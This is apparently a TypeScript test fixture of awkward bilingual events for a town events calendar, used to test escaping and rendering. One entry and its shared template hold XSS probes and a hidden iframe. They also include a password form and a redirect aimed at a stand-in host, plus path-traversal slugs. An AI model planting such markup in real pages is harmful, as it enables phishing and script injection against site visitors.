import { blockEditorMarkup } from './block-editor-markup.ts';
import { type Cost, cost } from './costs.ts';
import { at, inDays, week } from './day.ts';
import type { EventEntry } from './entry.ts';

const scripts = ({ password, click, here, there, film, send, windows }: Record<ScriptWord, string>) => `
  <p onclick="alert(1)">${password}</p>
  <script>document.title = 'przejęte';</script>
  <p><a href="javascript:alert(2)">${click}</a>, <a href=" jAvAsCrIpT:alert(3)">${here}</a>, <a href="data:text/html,<script>alert(4)</script>">${there}</a>.</p>
  <p><img src="x" onerror="alert(5)" alt=""><svg onload="alert(6)"><script>alert(7)</script></svg></p>
  <iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="${film}" width="560" height="315" allowfullscreen></iframe>
  <iframe src="https://zle.example.org/formularz" width="1" height="1"></iframe>
  <style>body { display: none }</style>
  <form action="https://zle.example.org/"><input name="haslo" type="password"><button>${send}</button></form>
  <p style="position:fixed;inset:0;background:url(https://zle.example.org/piksel.gif)">${windows}</p>
  <object data="https://zle.example.org/a.swf"></object><embed src="https://zle.example.org/b.swf"><base href="https://zle.example.org/"><meta http-equiv="refresh" content="0;url=https://zle.example.org/">`;

type ScriptWord = 'password' | 'click' | 'here' | 'there' | 'film' | 'send' | 'windows';

const ordinance = {
  pl: 'Spotkanie informacyjne w sprawie uchwały o zmianie uchwały zmieniającej uchwałę w sprawie zasad i trybu korzystania z miejskich gminnych obiektów i urządzeń użyteczności publicznej położonych na terenie Wyspy Młyńskiej, Bulwaru Flisaków oraz przyległych do nich skwerów, alejek, pomostów, schodów terenowych i ławek',
  en: 'Public hearing on the ordinance amending the ordinance amending the ordinance on the rules and procedure for the use of municipal facilities and public amenities situated on Mill Island, on Raftsmen’s Boulevard and on the squares, paths, jetties, terraced steps, flower beds and benches that adjoin them',
} as const;

const links = {
  pl: `
    <p>Co wybrać w tym sezonie? <a href="{{origin}}{{event:short-current}}">Krótki Nurt</a>, <a href="{{event:malicka-trio}}">trio Ewy Malickiej</a> i <a href="//{{host}}{{event:house-by-the-water}}?utm_source=list#bilety">premierę Pomostu</a>. Wolontariuszy zapraszamy na <a href="{{event:volunteers-briefing}}">odprawę</a>.</p>
    <p>Przeczytaj też <a href="{{origin}}{{post:neon}}">wiadomość o neonie</a>, zajrzyj na stronę <a href="{{page:getting-here}}">jak dojechać</a>, do <a href="{{venue:owl}}">piwnicy „Pod Sową”</a>, do <a href="{{organizer:center}}">organizatora</a> i do kategorii <a href="{{category:jazz}}">jazz</a>. Program: <a href="/uploads/program-konsultacji.pdf">PDF</a>.</p>
    <p><img src="/uploads/targ.jpg" srcset="{{origin}}/uploads/targ.jpg 1600w, //{{host}}/uploads/targ.jpg 800w" sizes="(max-width: 800px) 100vw, 800px" alt="Targ" width="1600" height="1067"></p>
    <p><a href="{{origin}}/nie-ma-takiej-strony/">Ta strona już nie istnieje</a>, a <a href="{{event:surprise-guest}}">ten wpis jest szkicem</a>. <a href="#szczegoly">Szczegóły</a> poniżej.</p>
    <h2 id="szczegoly">Szczegóły</h2>
    <p><a href="https://pl.wikipedia.org/wiki/Kultura">Definicja kultury</a>, <a href="mailto:kontakt@gck.example.org?subject=Sezon">e-mail</a>, <a href="tel:+48005550120">telefon</a>.</p>`,
  en: `
    <p>What to choose this season? <a href="{{origin}}{{event:short-current}}">Short Current</a>, the <a href="{{event:malicka-trio}}">Ewa Malicka Trio</a> and <a href="//{{host}}{{event:house-by-the-water}}?utm_source=list#tickets">the Jetty’s opening night</a>. Volunteers are invited to a <a href="{{event:volunteers-briefing}}">briefing</a>.</p>
    <p>Read <a href="{{origin}}{{post:neon}}">the news about the neon sign</a>, see <a href="{{page:getting-here}}">how to get here</a>, visit <a href="{{venue:owl}}">the Owl Cellar</a>, the <a href="{{organizer:center}}">organizer</a> and the <a href="{{category:jazz}}">jazz</a> category. Program: <a href="/uploads/program-konsultacji.pdf">PDF</a>.</p>
    <p><img src="/uploads/targ.jpg" srcset="{{origin}}/uploads/targ.jpg 1600w, //{{host}}/uploads/targ.jpg 800w" sizes="(max-width: 800px) 100vw, 800px" alt="Market" width="1600" height="1067"></p>
    <p><a href="{{origin}}/no-such-page/">This page is gone</a> and <a href="{{event:surprise-guest}}">this entry is a draft</a>. <a href="#details">Details</a> below.</p>
    <h2 id="details">Details</h2>
    <p><a href="https://en.wikipedia.org/wiki/Culture">A definition of culture</a>, <a href="mailto:kontakt@gck.example.org?subject=Season">e-mail</a>, <a href="tel:+48005550120">phone</a>.</p>`,
} as const;

/** Events whose texts are hard. */
export const awkwardTexts: readonly EventEntry[] = [
  {
    key: 'rock-and-roll-l',
    when: at(week(4, 'sat'), '20:00', '23:00'),
    venues: ['station'],
    organizers: ['center'],
    categories: ['music'],
    image: 'stage',
    pl: {
      title: 'Rock & Roll "na żywo" – Łódź, Żółw & <3',
      slug: 'rock-and-roll-l-pl',
      body: '5 &lt; 6 &amp; 7 &gt; 6. „Zażółć gęślą jaźń” – koncert z pełnym zestawem znaków.',
    },
    en: {
      title: 'Rock & Roll "Live" – Łódź, a Tortoise & <3',
      slug: 'rock-and-roll-l',
      body: '5 &lt; 6 &amp; 7 &gt; 6. &#8220;Quotes&#8221; &ndash; a concert with every character there is.',
    },
  },
  {
    key: 'sunday-with-emoji',
    when: at(inDays(8), '11:00', '13:00'),
    venues: ['cafe'],
    organizers: ['library'],
    categories: ['family'],
    image: 'tea',
    pl: {
      title: '🥐 Niedziela z rogalem 👩‍👩‍👧‍👦 i 🎲',
      slug: 'niedziela-z-rogalem',
      body: 'Gry, rogale i kawa ☕.',
    },
    en: {
      title: '🥐 Croissant Sunday 👩‍👩‍👧‍👦 with 🎲',
      slug: 'sunday-with-emoji',
      body: 'Games, croissants and coffee ☕.',
    },
  },
  {
    key: 'soft-hyphen-lecture',
    when: at(week(3, 'thu'), '17:00', '18:00'),
    venues: ['library'],
    organizers: ['university'],
    categories: ['literature'],
    pl: {
      title: 'Dzie\u00ADsięć\u00ADty\u00ADsięcz\u00ADnik: o dłu\u00ADgich sło\u00ADwach',
      slug: 'o-dlugich-slowach',
      body: 'Słowo „konstantynopolitań\u00ADczykowianeczka” i inne.',
    },
    en: {
      title: 'Anti\u00ADdis\u00ADestablish\u00ADment\u00ADarian\u00ADism: On Long\u200B Words',
      slug: 'soft-hyphen-lecture',
      body: 'And on where to break them.',
    },
  },
  {
    key: 'cdata-evening',
    when: at(week(4, 'mon'), '18:00', '20:00'),
    venues: ['station'],
    organizers: ['center'],
    categories: ['workshops'],
    pl: {
      title: 'Wieczór XML ]]> dla \u0007po\u001fczątku\u0008jących',
      slug: 'wieczor-xml',
      body: 'O znakach, których nie widać, \u0000 i sekwencji ]]>.',
    },
    en: {
      title: 'XML Evening ]]> for \u0007Begin\u001fners\u0008',
      slug: 'cdata-evening',
      body: 'About characters you cannot see \u0000 and the sequence ]]>, and about half an emoji \ud83c.',
    },
  },
  {
    key: 'improv-and-jazz',
    when: at(week(5, 'sat'), '20:00', '22:00'),
    venues: ['owl'],
    organizers: ['theaterGroup', 'center'],
    categories: ['theater', 'jazz'],
    image: 'masks',
    pl: {
      title: '<em>Impro</em> &amp; <b>jazz</b><script>alert("tytuł")</script>',
      slug: 'impro-i-jazz',
      excerpt: 'Aktorzy <script>alert("zajawka")</script>i muzycy.',
      body: 'Aktorzy dają słowo, muzycy dźwięk.',
    },
    en: {
      title: '<em>Improv</em> &amp; <b>Jazz</b><script>alert("title")</script>',
      slug: 'improv-and-jazz',
      excerpt: 'Actors <script>alert("excerpt")</script>and musicians.',
      body: 'Actors give a word, musicians a sound.',
    },
  },
  {
    key: 'web-security',
    when: at(week(2, 'mon'), '17:30', '19:00'),
    venues: ['scriptRoom'],
    organizers: ['prankster'],
    categories: ['workshops', 'town'],
    tags: ['free'],
    image: 'robots',
    cost: cost('<script>alert("cost")</script>0zł', '0'),
    website: 'javascript:alert(document.domain)',
    pl: {
      title: 'Bezpieczeństwo w sieci dla każdego',
      body: scripts({
        password: 'Hasło „123456” ma w Grążelinie czterysta osób.',
        click: 'Kliknij, aby wygrać rower',
        here: 'albo tutaj',
        there: 'albo tu',
        film: 'Film instruktażowy',
        send: 'Wyślij',
        windows: 'Uwaga na okienka.',
      }),
    },
    en: {
      title: 'Web Security for Everyone',
      body: scripts({
        password: 'Four hundred people in Grążelin have the password “123456”.',
        click: 'Click to win a bicycle',
        here: 'or here',
        there: 'or there',
        film: 'Instructional film',
        send: 'Send',
        windows: 'Beware of pop-ups.',
      }),
    },
  },
  {
    key: 'cycle-map',
    when: at(week(6, 'mon'), '17:00', '19:00'),
    venues: ['station'],
    organizers: ['friends'],
    categories: ['outdoors'],
    website: 'https://mapy.example.org/rower?punkt=53.6412,20.4021;warstwa=trasy&jezyk=pl,en#mapa',
    pl: { title: 'Aktualizujemy mapę rowerową', body: 'Przynieś swoje skróty.' },
    en: { title: 'Cycle Map Update', body: 'Bring your shortcuts.' },
  },
  {
    key: 'cake-contest',
    when: at(week(3, 'sat'), '14:00', '17:00'),
    venues: ['cafe'],
    organizers: ['housewives'],
    categories: ['markets'],
    tags: ['food', 'competition'],
    image: 'tea',
    website: 'ciasta.example.org/zapisy',
    pl: { title: 'Konkurs ciast', body: 'Zapisy przy kasie, jury bez diety.' },
    en: { title: 'Cake Contest', body: 'Sign up at the till; nobody on the jury is on a diet.' },
  },
  {
    key: 'arabic-calligraphy',
    when: at(week(5, 'thu'), '17:00', '19:00'),
    venues: ['library'],
    organizers: ['library'],
    categories: ['workshops'],
    tags: ['craft'],
    image: 'openBook',
    pl: {
      title: 'فن الخط – warsztat kaligrafii arabskiej',
      slug: 'kaligrafia-arabska',
      body: '<p dir="rtl" lang="ar">أهلاً وسهلاً بكم في غرونجيلين</p>\n\nProwadzi Samir Haddad, po polsku. Tusz i trzciny zapewniamy.',
    },
    en: {
      title: 'فن الخط: A Workshop in Arabic Calligraphy \u202Etest\u202C',
      slug: 'arabic-calligraphy',
      body: '<p dir="rtl" lang="ar">أهلاً وسهلاً بكم في غرونجيلين</p>\n\nLed by Samir Haddad, in Polish and Arabic. Ink and reeds are provided.',
    },
  },
  {
    key: 'ordinance',
    when: at(week(6, 'thu'), '15:00', '16:00'),
    venues: ['townHall'],
    organizers: ['townHall'],
    categories: ['town'],
    pl: { title: ordinance.pl, body: 'W skrócie: chodzi o ławki.' },
    en: { title: ordinance.en, body: 'In short: it is about the benches.' },
  },
  {
    key: 'saxophone-after-hours',
    when: at(week(7, 'fri'), '22:00', '23:30'),
    venues: ['owl'],
    organizers: ['center'],
    categories: ['jazz'],
    image: 'jazz',
    pl: {
      title: 'Saksofon po godzinach',
      slug: '🎷-po-godzinach',
      body: 'Solo i w duecie z ekspresem do kawy.',
    },
    en: {
      title: 'Saxophone After Hours',
      slug: '🎷-after-hours',
      body: 'Solo and in a duet with the coffee machine.',
    },
  },
  {
    key: 'ukrainian-songs',
    when: at(week(6, 'fri'), '18:00', '19:30'),
    venues: ['synagogue'],
    organizers: ['choir'],
    categories: ['organ'],
    image: 'choir',
    pl: {
      title: 'Вечір української пісні. Wieczór pieśni ukraińskiej',
      slug: '%d0%b2%d0%b5%d1%87%d1%96%d1%80',
      body: 'Śpiewa chór „Kalyna”, zbieramy na agregaty.',
    },
    en: {
      title: 'Вечір української пісні: An Evening of Ukrainian Song',
      slug: '%d0%b2%d0%b5%d1%87%d1%96%d1%80-en',
      body: 'With the Kalyna choir; donations go toward generators.',
    },
  },
  {
    key: 'off-the-path',
    when: at(week(7, 'sat'), '09:00', '13:00'),
    venues: ['glade'],
    organizers: ['friends'],
    categories: ['walks'],
    image: 'leaves',
    pl: {
      title: 'Poza ścieżką',
      slug: '../../poza-katalogiem',
      body: 'Marsz na azymut. Kompas obowiązkowy.',
    },
    en: { title: 'Off the Path', slug: '..%2f..%2foutside', body: 'Walking by compass. Bring one.' },
  },
  {
    key: 'first-aid-saturday',
    when: at(week(2, 'sat'), '09:00', '12:00'),
    venues: ['sportsHall'],
    organizers: ['sports'],
    categories: ['workshops'],
    pl: { title: 'Sobota z pierwszą pomocą', slug: 'pierwsza-pomoc', body: 'Termin pierwszy.' },
    en: { title: 'First Aid Saturday', slug: 'first-aid-saturday', body: 'First date.' },
  },
  {
    key: 'first-aid-saturday-2',
    when: at(week(4, 'sat'), '09:00', '12:00'),
    venues: ['sportsHall'],
    organizers: ['sports'],
    categories: ['workshops'],
    pl: { title: 'Sobota z pierwszą pomocą', slug: 'pierwsza-pomoc', body: 'Termin drugi.' },
    en: { title: 'First Aid Saturday', slug: 'first-aid-saturday', body: 'Second date.' },
  },
  {
    key: 'past',
    when: at(week(8, 'tue'), '17:00', '18:30'),
    venues: ['museum'],
    organizers: ['museum'],
    categories: ['literature'],
    tags: ['history'],
    pl: { title: 'Minione', slug: 'minione', body: 'Wykład o tym, co się nie wydarzyło.' },
    en: { title: 'Past', slug: 'past', body: 'A lecture on what did not happen.' },
  },
  {
    key: 'page',
    when: at(week(8, 'wed'), '17:00', '18:30'),
    venues: ['library'],
    organizers: ['library'],
    categories: ['literature'],
    pl: { title: 'Strona', slug: 'strona', body: 'O jednej stronie jednej książki, przez półtorej godziny.' },
    en: { title: 'Page', slug: 'page', body: 'On a single page of a single book, for ninety minutes.' },
  },
  {
    key: 'untitled',
    when: at(week(7, 'mon'), '12:00', '13:00'),
    venues: ['granary'],
    organizers: ['center'],
    categories: ['exhibitions'],
    pl: { title: '', slug: 'bez-tytulu', body: 'Artysta prosi o brak tytułu.' },
    en: { title: '', slug: 'untitled', body: 'The artist asks for no title.' },
  },
  {
    key: 'no-slug',
    when: at(week(7, 'tue'), '12:00', '13:00'),
    venues: ['granary'],
    organizers: ['center'],
    categories: ['exhibitions'],
    pl: { title: '???', slug: '', body: 'Instalacja bez adresu.' },
    en: { title: '!!!', slug: '', body: 'An installation without an address.' },
  },
  {
    key: 'chronicle',
    when: at(week(8, 'fri'), '10:00', '20:00'),
    venues: ['library'],
    organizers: ['library', 'museum'],
    categories: ['literature'],
    tags: ['history'],
    image: 'books',
    pl: { title: 'Czytanie kroniki miasta', body: chronicle('pl') },
    en: { title: 'Reading of the Town Chronicle', body: chronicle('en') },
  },
  {
    key: 'block-editor-workshop',
    when: at(week(3, 'mon'), '16:00', '19:00'),
    venues: ['islandLibrary'],
    organizers: ['center'],
    categories: ['workshops'],
    tags: ['signUp'],
    image: 'notice',
    pl: {
      title: 'Warsztat dla redaktorów: wszystkie bloki',
      slug: 'wszystkie-bloki',
      body: blockEditorMarkup.pl,
    },
    en: {
      title: 'A Workshop for Editors: Every Block',
      slug: 'block-editor-workshop',
      body: blockEditorMarkup.en,
    },
  },
  {
    key: 'shortcode',
    when: at(week(4, 'wed'), '10:00', '12:00'),
    venues: ['lindens'],
    organizers: ['seniorsClub'],
    categories: ['seniors'],
    tags: ['signUp'],
    pl: {
      title: 'Zapisy na gimnastykę',
      slug: 'zapisy-na-gimnastyke',
      body: '<p>[contact-form-7 id=&#8221;123&#8243; title=&#8221;Zapisy&#8221;]</p>\n\n<p>[vc_row][vc_column]Prosimy wypełnić formularz.[/vc_column][/vc_row]</p>',
    },
    en: {
      title: 'Sign Up for Gymnastics',
      slug: 'sign-up-with-a-shortcode',
      body: '<p>[contact-form-7 id=&#8221;123&#8243; title=&#8221;Sign up&#8221;]</p>\n\n<p>[vc_row][vc_column]Please fill in the form.[/vc_column][/vc_row]</p>',
    },
  },
  {
    key: 'season-guide',
    when: at(inDays(12), '18:00', '19:00'),
    venues: ['mill', 'online'],
    organizers: ['center', 'library', 'museum'],
    categories: ['town'],
    tags: ['online'],
    image: 'panorama',
    pl: { title: 'Przewodnik po sezonie', slug: 'przewodnik-po-sezonie', body: links.pl },
    en: { title: 'A Guide to the Season', slug: 'season-guide', body: links.en },
  },
  ...costEvents(),
];

/** One small event for every shape a cost can have. */
function costEvents(): readonly EventEntry[] {
  const costs: readonly (readonly [string, Cost])[] = [
    ['$10 – $25', cost('$10 – $25', '10', '25')],
    ['$25,50', cost('$25,50', '25.50')],
    ['$30', cost('$30', '10', '20', '30')],
    ['10, 20, 30 zł', cost('10, 20, 30 zł', '10.', '20', '30')],
    ['€0', cost('€0', '0')],
    ['Free – 40zł', cost('Free – 40zł', 'free', '40')],
  ];
  return costs.map(([label, shape], place) => ({
    key: `cost-${place + 1}`,
    when: at(week(9 + place, 'wed'), '17:00', '18:00'),
    venues: ['station'],
    organizers: ['center'],
    categories: ['workshops'],
    cost: shape,
    pl: {
      title: `Drukowanie linorytu, grupa ${place + 1}`,
      slug: `linoryt-${place + 1}`,
      body: `Cena na afiszu: ${label}.`,
    },
    en: {
      title: `Linocut Printing, group ${place + 1}`,
      slug: `cost-${place + 1}`,
      body: `The price on the poster: ${label}.`,
    },
  }));
}

/** About 30 kB of chronicle. */
function chronicle(language: 'pl' | 'en'): string {
  const entry =
    language === 'pl'
      ? (year: number) =>
          `## Rok ${year}\n\nWody było ${(year % 7) + 5} łokci ponad miarę, a mimo to jarmark się odbył. Rajcy uchwalili, że most należy naprawić, i odłożyli naprawę do roku następnego. Cena żyta: ${(year % 13) + 5} groszy. Młynarz skarżył się na bobry, bobry nie zeznawały.`
      : (year: number) =>
          `## The year ${year}\n\nThe water stood ${(year % 7) + 5} ells above the mark, and the fair was held all the same. The council resolved that the bridge be mended and put the mending off to the year after. Price of rye: ${(year % 13) + 5} groats. The miller complained of beavers; the beavers did not testify.`;
  return Array.from({ length: 106 }, (_, place) => entry(1701 + place)).join('\n\n');
}
